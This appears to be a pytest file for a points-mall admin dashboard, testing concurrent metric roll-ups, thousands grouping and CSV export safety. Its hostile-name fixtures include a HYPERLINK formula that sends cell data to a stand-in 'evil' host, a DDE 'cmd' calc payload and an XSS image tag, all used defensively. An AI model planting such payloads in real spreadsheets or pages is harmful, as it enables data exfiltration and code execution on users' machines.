"""The dashboard after review (docs/decisions/0031): roll-ups that run at the same time take turns
and keep the right rows, CSV cells that a spreadsheet could run are quoted even behind leading
spaces, the numbers on the page are grouped by thousands in both languages."""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta

import pytest
from django.core.management import call_command
from django.utils import translation

from catalog.enums import ProductKind
from catalog.models import Category, Product
from pointsmall.analytics.models import ProductDaily
from pointsmall.dashboard.enums import Metric
from pointsmall.dashboard.models import DailyMetric
from pointsmall.dashboard.services import dashboard_rollup
from pointsmall.dashboard.templatetags.dashboard_tags import grouped
from pointsmall.kernel import clock
from tests.concurrency import run_together
from tests.factories import MemberFactory, StaffFactory

TODAY = date(2026, 5, 12)


def _rows() -> set[tuple]:
    return set(DailyMetric.objects.values_list("day", "metric", "dimension", "value"))


# --- The roll-up ---------------------------------------------------------------------------------


@pytest.mark.postgres
@pytest.mark.django_db(transaction=True)
def test_rollups_at_the_same_time_all_succeed_and_write_the_same_rows():
    """Beat overlapping an engineer's backfill: six ten-year roll-ups at once, three through the
    management command. Each used to delete then insert and one died on the unique constraint."""
    for _ in range(5):
        MemberFactory()

    def service() -> int:
        return dashboard_rollup(days=3660)

    def command() -> str:
        out = io.StringIO()
        call_command("dashboard_rollup", days=3660, stdout=out)
        return out.getvalue()

    results = run_together([service, command] * 3)

    assert [r for r in results if isinstance(r, Exception)] == []
    written = {r for r in results if isinstance(r, int)}
    assert len(written) == 1
    after_race = _rows()
    assert len(after_race) == written.pop()
    assert DailyMetric.objects.get(day=clock.business_date(), metric=Metric.SIGNUPS, dimension="").value == 5
    dashboard_rollup(days=3660)
    assert _rows() == after_race


@pytest.mark.django_db
def test_a_rollup_updates_its_days_drops_figures_gone_and_keeps_other_days():
    MemberFactory()
    outside = DailyMetric.objects.create(day=TODAY - timedelta(days=10), metric=Metric.ORDERS, value=7)
    gone = DailyMetric.objects.create(day=TODAY, metric=Metric.REDEMPTIONS, dimension="999", value=3)
    stale = DailyMetric.objects.create(day=clock.business_date(), metric=Metric.SIGNUPS, value=42)

    dashboard_rollup(days=3, today=TODAY)
    dashboard_rollup(days=2)

    assert DailyMetric.objects.get(pk=outside.pk).value == 7  # outside both ranges: kept
    assert not DailyMetric.objects.filter(pk=gone.pk).exists()  # no such figure any more: deleted
    stale_row = DailyMetric.objects.get(day=clock.business_date(), metric=Metric.SIGNUPS, dimension="")
    assert (stale_row.pk, stale_row.value) == (stale.pk, 1)  # updated in place


@pytest.mark.django_db
def test_a_bad_day_count_still_writes_nothing():
    DailyMetric.objects.create(day=clock.business_date(), metric=Metric.ORDERS, value=7)
    with pytest.raises(ValueError, match="days must be at least 1"):
        dashboard_rollup(days=0)
    assert _rows() == {(clock.business_date(), Metric.ORDERS, "", 7)}


# --- The CSV exports and the page with hostile product names -----------------------------------

HOSTILE = [
    '=HYPERLINK("http://evil/?x="&A1,"click")',
    " =1+1",
    "\n=1+1",
    "\t@SUM(A1)",
    "\u200b-2+3",
    "＝1+1",
    "<img src=x onerror=alert(1)>",
]


@pytest.fixture
def operator_client(client, settings):
    settings.ADMIN_REQUIRE_MFA = False
    client.force_login(StaffFactory())
    return client


@pytest.mark.django_db
def test_hostile_product_names_are_quoted_in_the_csv_and_escaped_on_the_page(operator_client):
    category = Category.objects.create(name_zh="+cmd|' /C calc'!A0", name_en="+cmd", slug="evil")
    for i, name in enumerate(HOSTILE):
        product = Product.objects.create(
            name_zh=name,
            name_en=name,
            category=category,
            kind=ProductKind.PHYSICAL,
            points_price=100,
            stock=1,
            per_order_limit=5,
            low_stock_threshold=5,
        )
        ProductDaily.objects.create(
            day=clock.business_date(), product=product, views=10 + i, visitors=1, redeem_starts=1
        )

    html = operator_client.get("/admin/").content.decode()
    assert "<img src=x onerror" not in html

    response = operator_client.get("/admin/dashboard/funnel.csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    names = {row[1] for row in rows[1:]}
    assert names == {"'" + name for name in HOSTILE if not name.startswith("<")} | {HOSTILE[-1]}


# --- Numbers on the page ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "decimals", "text"),
    [
        (24429, None, "24,429"),
        (1234567, None, "1,234,567"),
        (-1000, None, "-1,000"),
        (999, None, "999"),
        (0, None, "0"),
        ("12345.5", 2, "12,345.50"),
        (None, None, ""),
        ("n/a", None, "n/a"),
    ],
)
@pytest.mark.parametrize("language", ["zh-hans", "en"])
def test_numbers_are_grouped_by_thousands_in_both_languages(language, value, decimals, text):
    with translation.override(language):
        assert grouped(value, decimals) == text


@pytest.mark.django_db
@pytest.mark.parametrize("language", ["zh-hans", "en"])
def test_the_dashboard_groups_its_numbers(operator_client, language):
    for _ in range(3):
        MemberFactory()
    DailyMetric.objects.create(day=clock.business_date(), metric=Metric.SIGNUPS, value=24429)
    operator_client.cookies["django_language"] = language
    html = operator_client.get("/admin/", HTTP_ACCEPT_LANGUAGE=language).content.decode()
    assert "24,429" in html
    assert ">24429<" not in html
